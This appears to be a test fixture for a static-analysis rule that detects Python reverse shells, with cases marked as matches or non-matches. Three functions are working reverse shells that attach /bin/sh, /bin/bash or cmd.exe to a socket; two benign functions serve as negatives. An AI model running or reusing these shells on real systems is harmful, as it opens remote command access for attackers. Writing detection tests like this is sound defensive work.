import socket
import subprocess


def reverse(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    # ruleid: python-reverse-shell-subprocess-socket-stdio
    p = subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
    p.wait()


def reverse_objects(host, port):
    s = socket.create_connection((host, port))
    # ruleid: python-reverse-shell-subprocess-socket-stdio
    subprocess.call("/bin/bash", stdin=s, stdout=s, stderr=s, shell=True)


def reverse_windows(host, port):
    client = socket.socket()
    client.connect((host, port))
    # ruleid: python-reverse-shell-subprocess-socket-stdio
    subprocess.Popen(["cmd.exe"], stdout=client.fileno(), stderr=client.fileno(), stdin=client.fileno())


def compress(path):
    with open(path, "rb") as src, open(path + ".gz", "wb") as dst:
        # ok: python-reverse-shell-subprocess-socket-stdio
        subprocess.run(["gzip", "-c"], stdin=src, stdout=dst, check=True)


def run_and_send(host, port):
    s = socket.create_connection((host, port))
    # ok: python-reverse-shell-subprocess-socket-stdio
    out = subprocess.run(["uptime"], stdout=subprocess.PIPE, check=True).stdout
    s.sendall(out)
